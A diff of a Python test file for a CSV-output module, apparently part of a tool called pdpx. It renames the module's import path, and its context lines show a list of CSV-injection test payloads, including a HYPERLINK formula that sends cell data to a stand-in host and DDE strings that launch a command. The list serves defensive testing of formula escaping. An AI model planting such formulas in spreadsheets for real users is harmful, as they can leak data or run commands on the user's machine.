@@ -1,4 +1,4 @@
-"""What the command line writes (:mod:`pdpx.cli_output`): CSV cells a spreadsheet would run as formulas are written
+"""What the command line writes (:mod:`pdpx.cli.output`): CSV cells a spreadsheet would run as formulas are written
 as text (a single quote before them, double quotes around them, as OWASP's CSV-injection guidance says), numbers stay
 numbers, every other cell is written as pandas writes it; an output is the same file as an input however it is
 named."""
@@ -13,7 +13,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from pdpx.cli_output import FORMULA_STARTS, csv_text, formula_like, same_file
+from pdpx.cli.output import FORMULA_STARTS, csv_text, formula_like, same_file
 
 HOSTILE = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
